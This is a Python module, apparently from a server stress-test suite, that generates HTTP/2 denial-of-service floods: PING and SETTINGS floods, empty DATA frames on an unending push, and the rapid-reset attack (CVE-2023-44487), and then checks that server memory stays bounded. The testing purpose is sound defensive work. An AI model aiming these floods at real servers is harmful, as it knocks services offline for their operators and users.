"""Frames of HTTP/2 that ask for work and carry nothing."""

import time

from .http2 import DATA, PING, RST_STREAM, SETTINGS, Http2, frame
from .lines import pump

CONNECTIONS = 4
SECONDS = 5
PORTION = 65_536
# Portions sent on one connection before the next one has its turn.
TURNS = 64
# The frames carry nothing, so only connections may cost memory, however many frames come.
EACH_BYTES = 500_000


def flood(attack, portion_of, is_read=True):
    """Sends as fast as the server reads. A client that is disconnected comes back."""
    attack.begin()
    deadline = time.monotonic() + SECONDS * max(attack.scale, 0.5)
    while time.monotonic() < deadline:
        lines = [attack.line(Http2) for _ in range(CONNECTIONS)]
        turns = 0
        while time.monotonic() < deadline and lines and turns < TURNS:
            # All connections have come as far as the first one, also in the numbers of their streams.
            portion = portion_of(lines[0])
            sent = sum(line.sent for line in lines)
            pump(lines, portion, 0.5, reads=is_read)
            turns += 1
            if sum(line.sent for line in lines) - sent < len(portion):
                break
        for line in lines:
            attack.drop(line)
    attack.bound = CONNECTIONS * EACH_BYTES
    attack.hold(least=0)


def pings(attack):
    flood(attack, lambda _: frame(PING, payload=bytes(8)) * (PORTION // 17))


def pings_unread(attack):
    """PING whose answers are not read."""
    flood(attack, lambda _: frame(PING, payload=bytes(8)) * (PORTION // 17), is_read=False)


def settings(attack):
    flood(attack, lambda _: frame(SETTINGS) * (PORTION // 9))


def empty(attack):
    """DATA without a byte, on a push that does not end."""
    def portion(line):
        if line.next == 1:
            opening, _ = line.opening("POST", "/push/", is_last=False)
        else:
            opening = b""
        return opening + frame(DATA, 0, 1) * (PORTION // 9)

    flood(attack, portion)


def resets(attack):
    """Requests that are reset at once (CVE-2023-44487)."""
    def one(line):
        opening, stream = line.opening("GET", "/turted/info")
        return opening + frame(RST_STREAM, 0, stream, bytes([0, 0, 0, 8]))

    flood(attack, lambda line: b"".join(one(line) for _ in range(PORTION // 60)))
